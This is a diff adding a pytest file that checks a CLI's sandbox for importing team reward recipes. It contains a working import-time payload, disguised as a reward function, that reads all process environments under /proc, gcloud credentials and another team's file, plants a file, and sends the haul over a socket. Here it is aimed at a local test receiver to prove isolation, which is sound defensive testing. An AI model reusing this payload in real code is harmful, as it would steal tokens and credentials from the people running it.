@@ -1,0 +1,266 @@
+"""A team's recipe code, imported to check it, reaches nothing of the process that checks it.
+
+The attack: a reward file that, at import, reads the environment of every process it can see
+through /proc (the parent's first: `tpurl validate`, the flow, or a worker holding
+HF_TOKEN and PREFECT_API_KEY), the Google credentials in the parent's home, another team's
+recipe beside its own, writes into the parent's home, and sends what it found to a socket
+server this test runs on 127.0.0.1. The file is otherwise a good recipe, so validate would
+print "valid". Checked through the real CLI and the real probe in a real sandbox
+(flows/core/recipe_sandbox.py): nothing arrives at the socket, nothing is written, and the
+recipe's real problems (a missing function, a syntax error) are still reported.
+
+The import path needs a venv that stands in for the image (MaxText and Tunix importable): a
+real venv made here with stand-in ``maxtext`` and ``tunix`` packages, so these tests do not
+wait for the rehearsal's venv. Two teams: team A's recipe sits beside team B's attack.
+
+A user without root runs the same CLI as uid 1000 in a user namespace made here (where
+``user.max_user_namespaces`` can be 0, as a machine that disables them sets it): the sandbox
+then cannot be made, the recipe is read instead of imported, and the warning says why.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from flows.cli import main
+from flows.common.paths import REPO_ROOT
+from flows.core.recipe_check import ProbeRun, RecipeCheck, run_probe
+
+pytestmark = pytest.mark.services  # child processes in namespaces
+
+SECRETS = {"HF_TOKEN": "hf_tpurlSandboxTestSecret0001",
+           "PREFECT_API_KEY": "pnu_tpurlSandboxTestSecret0002",
+           "GOOGLE_APPLICATION_CREDENTIALS_SECRET": "gcp-tpurlSandboxTestSecret0003"}
+GCLOUD_SECRET = "refresh-tpurlSandboxTestSecret0004"
+OTHER_TEAM_SECRET = "team-a-tpurlSandboxTestSecret0005"
+ATTACK = '''\
+"""A reward that steals at import, then behaves."""
+import glob
+import json
+import os
+import socket
+
+PARENT_PID = {parent_pid}
+PARENT_HOME = {parent_home!r}
+OTHER_TEAM = {other_team!r}
+PORT = {port}
+
+
+def _read(path):
+    try:
+        with open(path, "rb") as handle:
+            return handle.read().decode("utf-8", "replace")
+    except OSError:
+        return ""
+
+
+stolen = {{"env": dict(os.environ)}}
+for path in ["/proc/%d/environ" % os.getppid(), "/proc/%d/environ" % PARENT_PID,
+             *glob.glob("/proc/[0-9]*/environ"),
+             os.path.expanduser("~/.config/gcloud/application_default_credentials.json"),
+             PARENT_HOME + "/.config/gcloud/application_default_credentials.json", OTHER_TEAM]:
+    stolen[path] = _read(path)
+try:
+    with open(PARENT_HOME + "/planted", "w") as handle:
+        handle.write("planted by a recipe")
+except OSError:
+    pass
+try:
+    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as sock:
+        sock.sendall(json.dumps(stolen).encode())
+except OSError:
+    pass
+
+
+def exact_match(prompts, completions, tmvp_config=None, **kwargs):
+    return [0.0 for _ in completions]
+'''
+
+
+@dataclass
+class Receiver:
+    """A TCP server on 127.0.0.1 that keeps what each connection sent."""
+
+    port: int
+    received: list[bytes] = field(default_factory=list)
+
+
+@pytest.fixture
+def receiver() -> Iterator[Receiver]:
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    found = Receiver(server.getsockname()[1])
+    done = threading.Event()
+
+    def serve() -> None:
+        while not done.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(5)
+                chunks = []
+                while chunk := conn.recv(65536):
+                    chunks.append(chunk)
+                found.received.append(b"".join(chunks))
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield found
+    done.set()
+    thread.join(timeout=5)
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def image_venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A real venv in which ``maxtext`` and ``tunix`` import (stand-ins for the image's),
+    so the check imports the recipe as under the rehearsal venv."""
+    venv = tmp_path_factory.mktemp("image-venv")
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
+    venv.chmod(0o755)  # as `python -m venv` and uv make one (pytest's folders are private)
+    (site,) = venv.glob("lib/python*/site-packages")
+    for module in ("maxtext", "tunix"):
+        (site / module).mkdir()
+        (site / module / "__init__.py").write_text('"""A stand-in of the image\'s package."""\n')
+    return venv
+
+
+@dataclass(frozen=True)
+class Teams:
+    """Team B's attack, team A's recipe beside it, and the parent's home with credentials."""
+
+    attack: Path
+    other_team: Path
+    home: Path
+
+
+def _teams(tmp_path: Path, port: int, parent_pid: int) -> Teams:
+    home = tmp_path / "home"
+    (home / ".config" / "gcloud").mkdir(parents=True)
+    (home / ".config" / "gcloud" / "application_default_credentials.json").write_text(
+        json.dumps({"type": "authorized_user", "refresh_token": GCLOUD_SECRET}))
+    team_a = tmp_path / "team-a"
+    team_a.mkdir()
+    other_team = team_a / "rewards.py"
+    other_team.write_text(f"# {OTHER_TEAM_SECRET}\ndef score(prompts, completions, **kw):\n"
+                          "    return [1.0 for _ in completions]\n")
+    team_b = tmp_path / "team-b"
+    team_b.mkdir()
+    attack = team_b / "rewards.py"
+    attack.write_text(ATTACK.format(parent_pid=parent_pid, parent_home=str(home),
+                                    other_team=str(other_team), port=port))
+    return Teams(attack, other_team, home)
+
+
+def _secrets_in(received: list[bytes]) -> list[str]:
+    text = b"".join(received).decode("utf-8", "replace")
+    return [s for s in (*SECRETS.values(), GCLOUD_SECRET, OTHER_TEAM_SECRET) if s in text]
+
+
+def _validate_args(teams: Teams, venv: Path, tmp_path: Path, functions: str) -> list[str]:
+    return ["validate", "rehearsal", "--set", f"recipe.rewards.file={teams.attack}",
+            "--set", f"recipe.rewards.functions={functions}", "--set", f"local.venv={venv}",
+            "--set", f"local.root={tmp_path / 'root'}",
+            "--set", f"local.hf_check_venv={tmp_path / 'hf-check'}"]
+
+
+def _tpurl(argv: list[str], env: dict[str, str], wrapper: tuple[str, ...] = (),
+           ) -> subprocess.CompletedProcess[str]:
+    """The CLI in a process of its own whose environment, from its start, holds the secrets
+    (what /proc/PID/environ shows is the environment a process started with)."""
+    return subprocess.run([*wrapper, sys.executable, "-m", "flows.cli", *argv], env=env,
+                          capture_output=True, text=True, timeout=300, cwd=REPO_ROOT)
+
+
+def _secret_env(home: Path) -> dict[str, str]:
+    kept = ("PATH", "LANG", "PYTHONPATH", "TPURL_TEAMS_FILE")
+    return {**{k: v for k, v in os.environ.items() if k in kept}, **SECRETS,
+            "HOME": str(home), "TPURL_KEEP_API_S": "0"}
+
+
+def test_a_reward_that_steals_at_import_reaches_nothing_and_validate_still_judges_it(
+        tmp_path: Path, receiver: Receiver, image_venv: Path,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    teams = _teams(tmp_path, receiver.port, os.getpid())
+    done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
+                  _secret_env(teams.home))
+    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
+    assert not (teams.home / "planted").exists()
+    # the file's real problem is still found, by importing it (no warning that it was read)
+    assert done.returncode == 2, done.stderr
+    assert (f"recipe.rewards.functions: {teams.attack}: defines no function 'exact_mach2'"
+            in done.stderr)
+    assert "were not checked" not in done.stderr, done.stderr
+
+    # the good file is valid, the file with a syntax error names its line
+    assert main(_validate_args(teams, image_venv, tmp_path, "exact_match")) == 0
+    out, err = capsys.readouterr()
+    assert "is valid" in out and "were not checked" not in err, err
+    teams.attack.write_text(teams.attack.read_text().replace("return [0.0", "return [0.0 ("))
+    assert main(_validate_args(teams, image_venv, tmp_path, "exact_match")) == 2
+    err = capsys.readouterr().err
+    line = teams.attack.read_text().splitlines().index("    return [0.0 ( for _ in completions]")
+    assert f"recipe.rewards.file: {teams.attack}:{line + 1}: SyntaxError" in err
+    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
+
+
+def test_an_import_error_is_reported_from_inside_the_sandbox(tmp_path: Path,
+                                                             image_venv: Path) -> None:
+    """What the team's import raises, and a module the environment lacks, name the team's
+    file and line as before; the probe saw the file at its own path."""
+    rewards = tmp_path / "rewards.py"
+    rewards.write_text("import os\n\nraise RuntimeError('at import ' + os.getcwd())\n")
+    run = ProbeRun(image_venv / "bin" / "python", static=False)
+    found, missing = run_probe(run, ["--rewards", str(rewards), "--functions", "f"])
+    assert missing == []
+    assert len(found.issues) == 1, found
+    (issue,) = found.issues
+    assert issue.category == "config/recipe-import-error"
+    assert issue.problem.startswith(f"{rewards}:3: importing it raised RuntimeError: at import ")
+    rewards.write_text("import tpurl_no_such_module\n")
+    found, _ = run_probe(run, ["--rewards", str(rewards), "--functions", "f"])
+    assert [i.category for i in found.issues] == ["config/recipe-missing-module"]
+    rewards.write_text("def f(prompts, completions, **kwargs):\n    return [1.0]\n")
+    assert run_probe(run, ["--rewards", str(rewards), "--functions", "f"]) == (RecipeCheck(), [])
+
+
+# --- a user who is not root ----------------------------------------------------------------
+
+# uid 1000 in a user namespace, below one whose limit of user namespaces is LIMIT: 1 leaves
+# none for the sandbox (as on a machine that sets user.max_user_namespaces to 0), 2 one
+_AS_USER = ("unshare --user --map-root-user sh -c 'echo {limit} > "
+            "/proc/sys/user/max_user_namespaces && exec unshare --user --map-user=1000 "
+            "--map-group=1000 \"$@\"' sh \"$@\"")
+
+
+@pytest.mark.parametrize("userns", [pytest.param(True, id="user-namespaces"),
+                                    pytest.param(False, id="no-user-namespaces")])
+def test_a_user_without_root_is_sandboxed_or_told_the_imports_were_not_checked(
+        tmp_path: Path, receiver: Receiver, image_venv: Path, userns: bool) -> None:
+    if os.geteuid() != 0:
+        pytest.skip("makes a user namespace with a limit of its own, as root")
+    teams = _teams(tmp_path, receiver.port, os.getpid())
+    wrapper = ("sh", "-c", _AS_USER.format(limit=2 if userns else 1), "sh")
+    done = _tpurl(_validate_args(teams, image_venv, tmp_path, "exact_match,exact_mach2"),
+                  _secret_env(teams.home), wrapper)
+    assert receiver.received == [], f"the recipe sent {_secrets_in(receiver.received)}"
+    assert not (teams.home / "planted").exists()
+    assert done.returncode == 2, done.stderr
+    assert "defines no function 'exact_mach2'" in done.stderr
+    if userns:
+        assert "were not checked" not in done.stderr, done.stderr
+    else:
+        assert "were not checked: this machine cannot isolate" in done.stderr, done.stderr
+        assert "user namespaces" in done.stderr
